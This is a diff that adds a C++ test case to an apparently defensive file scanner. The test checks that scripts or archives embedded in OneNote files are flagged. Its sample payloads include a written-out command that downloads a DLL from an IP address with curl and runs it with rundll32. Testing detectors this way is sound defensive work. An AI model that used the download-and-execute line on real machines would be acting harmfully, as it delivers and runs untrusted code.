@@ -103,6 +103,32 @@ TEST_CASE("files in OneNote are looked into, pictures are ordinary", "[inspect][
               Finding::ONENOTE_EMBEDDED_SCRIPT, 1));
 }
 
+TEST_CASE("what a file in OneNote begins with says that it runs", "[inspect][onenote]") {
+    struct Case {
+        std::string payload;
+        bool runs;
+    };
+    const auto c = GENERATE(values<Case>({
+        {"echo off\r\ncls\r\n", true},
+        {"rem abc\r\nstart /min calc.exe\r\n", true},
+        {"' hello\r\nExecute(Chr(65))\r\n", true},
+        {"Start-Process calc", true},
+        {"try{(function(){var _0x=0;})()}catch(e){}", true},
+        {"curl -o a.dll http://192.0.2.1/a & rundll32 a.dll,x", true},
+        {"\x1F\x8B\x08\0"s + std::string(20, '\0'), true},
+        {"MSCF\0\0\0\0"s + std::string(100, '\0'), true},
+        {"Rar!\x1A\x07\0"s + std::string(20, '\0'), true},
+        {"hello world", false},
+        {"remarks of the meeting", false},
+        {"\xFF\xD8\xFF\xE0\0\x10JFIF\0"s + std::string(50, '\0'), false},
+    }));
+    CAPTURE(c.payload);
+    const auto evidence = inspected(
+        "a.one",
+        onenote_head + onenote_file(c.payload, static_cast<std::uint32_t>(c.payload.size())));
+    CHECK(has(evidence, Finding::ONENOTE_EMBEDDED_SCRIPT, 1) == c.runs);
+}
+
 TEST_CASE("smuggling needs signs that belong together", "[inspect][html]") {
     const auto smuggles = [](std::string_view body) {
         return has(inspected("a.html", "<html><script>" + std::string(body) + "</script></html>"),
